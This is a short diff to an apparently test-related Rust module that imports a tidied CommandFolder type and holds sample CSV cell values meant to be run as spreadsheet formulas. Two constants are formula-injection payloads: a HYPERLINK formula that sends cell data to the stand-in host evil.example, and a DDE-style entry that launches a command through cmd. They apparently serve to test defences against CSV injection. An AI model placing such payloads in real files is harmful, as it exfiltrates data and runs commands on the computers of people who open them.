@@ -1,8 +1,6 @@
 //! CSV files of a session with IDs and texts that a spreadsheet would run as formulas.
 
-use crate::common;
-
-use common::CommandFolder;
+use crate::common::CommandFolder;
 
 const SESSION: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"look\")";
 const FACT: &str = "@SUM(1+1)*cmd|'/c calc'!A0";
